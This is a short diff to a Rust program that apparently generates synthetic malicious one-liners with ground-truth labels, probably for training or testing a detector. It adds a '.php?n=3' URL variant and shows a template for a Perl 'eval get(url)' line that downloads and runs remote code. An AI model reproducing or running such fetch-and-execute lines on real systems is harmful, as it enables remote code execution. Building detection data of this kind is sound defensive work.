@@ -377,7 +377,7 @@ fn object_shell(dice: &mut Dice, truth: &mut Truth) -> String {
 }
 
 fn one_line(dice: &mut Dice, truth: &mut Truth) -> String {
-    let url = truth.url(dice, &["", ".sh", ".pl"]);
+    let url = truth.url(dice, &["", ".sh", ".pl", ".php?n=3"]);
     let (before, word) = hidden(dice, &url);
     match dice.below(5) {
         0 => format!("{before}use LWP::Simple;eval get({word});\n"),
